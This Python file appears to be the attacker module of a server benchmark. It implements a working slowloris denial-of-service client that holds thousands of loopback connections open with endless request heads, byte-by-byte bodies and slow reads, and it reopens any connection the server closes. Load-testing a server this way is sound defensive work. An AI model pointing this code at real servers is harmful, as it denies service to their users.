"""The attacker of `python -m bench slowloris`: `python -m bench.attack PORT COUNT KINDS`.

It holds COUNT connections to 127.0.0.1:PORT, of the KINDS in turn:

    heads   a request head without end, a byte at a time
    bodies  a body of 8 KiB, a byte at a time
    reads   requests for pages without pause, of which it takes 16 bytes at a time

Each connection does its bit once every INTERVAL seconds. One that the server ends is opened again. `open N` is
printed when all are there; for each line on standard input, `ended N`: how many the server had ended by then.
"""

from __future__ import annotations

import contextlib
import os
import select
import socket
import sys
import time

INTERVAL = 1.0
PER_SOURCE = 2500  # connections from one loopback address, so that ports never run short
KINDS = ("heads", "bodies", "reads")

_BEGIN = {
    "heads": b"GET / HTTP/1.1\r\nHost: h\r\nX-Slow: ",
    "bodies": b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 8192\r\n\r\n",
    "reads": b"GET /page HTTP/1.1\r\nHost: h\r\n\r\n" * 40,
}


class Attack:
    """The connections, by descriptor, and what the server did to them."""

    def __init__(self, port: int, count: int, kinds: list[str]) -> None:
        """Open all of them."""
        self._port = port
        self._poller = select.epoll()
        self._connections: dict[int, tuple[socket.socket, str, int]] = {}
        self.ended = 0
        for number in range(count):
            self._open(number, kinds[number % len(kinds)])

    def _open(self, number: int, kind: str) -> None:
        sock = socket.socket()
        if kind == "reads":
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 1448)  # else the kernel takes 64 KiB at a time
        sock.settimeout(10)
        sock.bind((f"127.0.0.{2 + number // PER_SOURCE}", 0))
        sock.connect(("127.0.0.1", self._port))
        sock.sendall(_BEGIN[kind])
        sock.setblocking(False)
        self._connections[sock.fileno()] = sock, kind, number
        self._poller.register(sock, select.EPOLLRDHUP | (0 if kind == "reads" else select.EPOLLIN))

    def run(self) -> None:
        """Drip until standard input ends."""
        self._poller.register(0, select.EPOLLIN)
        while True:
            began = time.monotonic()
            turn = list(self._connections)
            for at, fd in enumerate(turn):
                self._drip(fd)
                if at % 10 == 0 and not self._look(max(0.0, began + INTERVAL * at / len(turn) - time.monotonic())):
                    return
            if not self._look(max(0.0, began + INTERVAL - time.monotonic())):
                return

    def _drip(self, fd: int) -> None:
        if fd not in self._connections:
            return
        sock, kind, _ = self._connections[fd]
        with contextlib.suppress(OSError):
            if kind == "reads":
                sock.recv(16)
            else:
                sock.send(b"x")

    def _look(self, seconds: float) -> bool:
        """Whatever the server did for so long; False at the end of standard input."""
        for fd, _ in self._poller.poll(seconds):
            if fd:
                self._reopen(fd)
            elif os.read(0, 4096):
                print(f"ended {self.ended}", flush=True)
            else:
                return False
        return True

    def _reopen(self, fd: int) -> None:
        """The server answered or ended what should have gone on."""
        sock, kind, number = self._connections.pop(fd)
        self.ended += 1
        sock.close()
        with contextlib.suppress(OSError):
            self._open(number, kind)


def main() -> None:
    """Attack until the end of input."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))  # the good clients' latency is not to be ours
    attack = Attack(int(sys.argv[1]), int(sys.argv[2]), sys.argv[3].split(","))
    print(f"open {sys.argv[2]}", flush=True)
    attack.run()


if __name__ == "__main__":
    main()
